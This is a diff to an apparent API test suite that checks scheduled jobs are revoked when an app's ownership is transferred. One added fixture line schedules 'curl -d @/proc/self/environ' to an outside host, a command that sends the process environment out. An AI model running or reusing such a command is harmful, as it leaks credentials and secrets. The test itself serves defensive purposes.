@@ -64,15 +64,22 @@ describe('API transfers (real Redis)', function () {
     const { name, secret } = await equippedApp(alice);
     const domain = `shop-${suffix()}.example.com`;
     await as(alice.token).post(`/apps/${name}/domains`).send({ domain }).expect(202);
+    // A schedule the old owner wrote would run as the receiver's app: it goes with the transfer.
+    await as(alice.token)
+      .post(`/apps/${name}/schedules`)
+      .send({ command: 'curl -d @/proc/self/environ https://example.com', schedule: '0 * * * *' })
+      .expect(201);
     const before = await fx.apps.get(name);
 
     const res = await as(alice.token).post(`/apps/${name}/transfer`).send({ to: bob.name }).expect(200);
     expect(res.body.transfer).to.deep.equal({
       from: alice.name,
       to: bob.name,
-      revoked: ['webhook', 'repoToken', 'sshKeys', 'sshPassword'],
+      revoked: ['webhook', 'repoToken', 'sshKeys', 'sshPassword', 'schedules'],
     });
     expect(res.body.app).to.include({ name, owner: bob.name, webhook: null });
+    expect((await as(bob.token).get(`/apps/${name}/schedules`).expect(200)).body.schedules).to.deep.equal([]);
+    expect(await fx.queues.byName('schedules').getJobSchedulers()).to.deep.equal([]);
     expect(res.body.app.repo.hasToken).to.equal(false);
     // What moves, moves: env, release, uid.
     const after = await fx.apps.get(name);
